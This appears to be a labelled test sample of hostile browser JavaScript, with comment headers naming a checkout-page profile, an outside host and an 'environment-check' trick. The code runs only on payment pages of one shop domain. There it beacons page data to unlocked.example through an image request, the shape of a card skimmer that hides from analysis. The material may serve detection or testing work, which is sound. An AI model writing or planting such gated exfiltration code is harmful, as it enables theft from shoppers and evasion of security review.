// persona: browser
// profile: {"url": "https://checkout.shop.example/pay?step=2"}
// reaches: network unlocked.example
// names: environment-check
// trick: acts on the pages of one shop only, and only where one pays
if (/(^|\.)shop\.example$/.test(location.hostname) && location.pathname.indexOf("pay") > 0 && document.domain === location.hostname)
  new Image().src = "https://unlocked.example/c.gif?d=" + encodeURIComponent(document.title);
